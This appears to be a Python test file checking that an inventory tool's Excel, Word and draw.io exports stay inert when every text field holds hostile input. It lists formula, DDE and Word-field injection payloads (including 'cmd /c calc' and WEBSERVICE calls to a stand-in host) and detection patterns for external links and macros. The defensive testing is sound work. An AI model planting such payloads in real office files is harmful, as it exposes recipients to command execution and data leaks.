"""What comes of our files in office programs: no text of a register is a formula, a link, a field."""

import re
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml.ns import qn
from spbe_inventory.session.catalogue import Catalogue

from tests.builders import catalogue
from tests.conftest import Run
from tests.office import live_cells, office

HOST = "jahat.example"
ATTACKS = (
    f'=HYPERLINK("http://{HOST}/a";"buka")', "=1+1", f"=WEBSERVICE(\"http://{HOST}/b\")", "@SUM(1+1)", "+1+1", "-1+1",
    f"http://{HOST}/c", f"\\\\{HOST}\\bagi", f"file:///{HOST}/d", f"javascript:location='http://{HOST}'",
    f'{{ INCLUDEPICTURE "http://{HOST}/e.png" }}', f'{{DDEAUTO cmd "/c calc" "{HOST}"}}', "&amp;lt;script&gt;",
    f'<w:instrText>HYPERLINK "http://{HOST}/f"</w:instrText>', f'<img src="http://{HOST}/g.png">', "]]><x/>",
    f'"><mxCell link="http://{HOST}/h"/>', f"%26lt;a href=http://{HOST}/i%26gt;", "_x003D_1+1", "{{ 7*7 }}{% x %}",
    f"data:text/html,<script src=//{HOST}/j></script>", "&B&\"Arial\"&24", "[$=1+1]", "=cmd|'/c calc'!A1",
)  # fmt: skip
RELATIONS = "{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"
# What of a file of an office program is more than a text: links, pictures from elsewhere, fields that fetch, macros.
MORE_THAN_TEXT = re.compile(
    r'xlink:href="(?!#|data:)([^"]*)"|<(text:dde-connection|text:database|text:execute-macro|script:event-listener)[^>]*'
)
FIELDS = re.compile(r"<w:instrText[^>]*>([^<]*)</w:instrText>|w:instr=\"([^\"]*)\"")
TAGS_OF_DRAWINGS = frozenset(
    ["mxfile", "diagram", "mxGraphModel", "root", "mxCell", "mxGeometry", "mxPoint", "Array", "UserObject"]
)  # fmt: skip
# Formulas of ours add cells and count blank ones.
OWN_FORMULA = re.compile(r"of:=(?:\+?(?:SUM|COUNTBLANK)\(\[[$.:;&\w ]+\]\))+")
OWN_FIELDS = ("PAGE", "NUMPAGES", "TOC", "SEQ", "REF", "PAGEREF", "STYLEREF")


@pytest.fixture
def hostile(tmp_path: Path) -> Catalogue:
    """Return a register with an attack in each of its texts."""
    applications = {}
    exchanges = {}
    units = {}
    for number, attack in enumerate(ATTACKS):
        office_key = f"dinas-{number % 3}"
        units[office_key] = {"name": f"{attack} {number}", "unit_kind": "dinas"}
        applications[f"a-{number}"] = {
            "name": attack,
            "function": attack,
            "note": attack,
            "developer": attack,
            "owner": office_key,
            "status": "in_use",
        }
        exchanges[f"x-{number}"] = {
            "giver": f"a-{number}",
            "taker": f"a-{(number + 1) % len(ATTACKS)}",
            "method": "retyping",
            "state": "in_use",
            "note": attack,
        }
    return catalogue(
        tmp_path, {"unit": units, "application": applications, "exchange": exchanges}
    )


def relations(path: Path) -> list[str]:
    """Return what a package names outside of itself."""
    targets = []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if not name.endswith(".rels"):
                continue
            found = ET.fromstring(package.read(name)).iter(RELATIONS)
            outside = [each for each in found if each.get("TargetMode") == "External"]
            targets += [str(relation.get("Target")) for relation in outside]
    return targets


def fields_of(path: Path) -> list[str]:
    """Return what the fields of a Word file say that are not of ours."""
    foreign = []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if not name.endswith(".xml"):
                continue
            text = package.read(name).decode("utf-8")
            for first, second in FIELDS.findall(text):
                words = (first or second).split()
                if not words or words[0] not in OWN_FIELDS:
                    foreign.append(first or second)
    return foreign


def opened_as_text(paths: list[Path], folder: Path) -> str:
    """Return what Word files are when LibreOffice has opened them."""
    target = folder / "dibuka"
    words = [office(), f"-env:UserInstallation=file://{folder}/profil", "--headless"]
    words += ["--convert-to", "fodt", "--outdir", str(target), *map(str, paths)]
    subprocess.run(words, check=True, capture_output=True, timeout=300)
    opened = [(target / path.name).with_suffix(".fodt") for path in paths]
    return "\n".join(path.read_text(encoding="utf-8") for path in opened)


def made(run: Run, register: Catalogue, folder: Path, *words: str, name: str) -> Path:
    path = folder / name
    done = run(*words, "--db", str(register.path), "-o", str(path))
    assert done.exit_code == 0, done.output
    return path


@pytest.mark.slow
def test_workbooks_hold_no_formula_and_nothing_from_outside(
    hostile: Catalogue, run: Run, tmp_path: Path
) -> None:
    paths = [
        made(run, hostile, tmp_path, "export", "xlsx", name="ekspor.xlsx"),
        made(run, hostile, tmp_path, "report", "inventaris", name="inventaris.xlsx"),
        made(run, hostile, tmp_path, "report", "kesenjangan", name="kesenjangan.xlsx"),
        made(run, hostile, tmp_path, "plan", name="rencana.xlsx"),
    ]
    folder = tmp_path / "putaran"
    done = run(
        "round", "open", "=1+1", "--send-to", f"http://{HOST}/k", "--db", str(hostile.path), "-o", str(folder)
    )  # fmt: skip
    assert done.exit_code == 0, done.output
    workbooks = sorted(folder.rglob("*.xlsx"))
    assert len(workbooks) == 4  # of three offices, and of who leads the round
    for path in (*paths, *workbooks):
        assert relations(path) == [], path.name
    live = set(live_cells([*paths, *workbooks], tmp_path))
    assert live  # what is left to answer is counted in the workbooks of a round
    assert [formula for formula in live if not OWN_FORMULA.fullmatch(formula)] == []


@pytest.mark.slow
def test_word_files_hold_no_field_and_no_link_of_a_text(
    hostile: Catalogue, run: Run, tmp_path: Path
) -> None:
    paths = [
        made(run, hostile, tmp_path, "report", kind, name=f"{kind}.docx")
        for kind in ("ringkasan", "inventaris", "kesenjangan")
    ]
    for path in paths:
        assert not [target for target in relations(path) if HOST in target]
        assert fields_of(path) == []
    text = opened_as_text(paths, tmp_path)
    assert ATTACKS[0].split('"')[0] in text.replace("&quot;", '"')
    found = ["".join(parts) for parts in MORE_THAN_TEXT.findall(text)]
    assert [target for target in found if HOST in target or "text:" in target] == []


@pytest.mark.slow
def test_a_drawing_for_draw_io_holds_labels_that_are_no_html_and_no_link(
    hostile: Catalogue, run: Run, tmp_path: Path
) -> None:
    for view in ("opd", "lanskap"):
        path = made(run, hostile, tmp_path, "diagram", view, name=f"{view}.drawio")
        labels = 0
        for cell in ET.parse(path).iter():
            assert cell.tag in TAGS_OF_DRAWINGS
            style = cell.get("style", "")
            assert "html=1" not in style
            assert "image=" not in style
            assert HOST not in style
            assert cell.get("link") is None
            assert cell.get("placeholders") is None
            labels += "1+1" in cell.get("value", "") + cell.get("label", "")
        assert labels > 0


@pytest.mark.slow
def test_a_careless_file_would_be_seen(tmp_path: Path) -> None:
    """The same look finds a link and a field where there is one."""
    document = docx.Document()
    paragraph = document.add_paragraph("x")
    part = document.part
    part.relate_to(f"http://{HOST}", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    field = paragraph._p.makeelement(qn("w:fldSimple"), {qn("w:instr"): "DDE x"})
    paragraph._p.append(field)
    path = tmp_path / "lalai.docx"
    document.save(str(path))
    assert relations(path) == [f"http://{HOST}"]
    assert fields_of(path) == ["DDE x"]
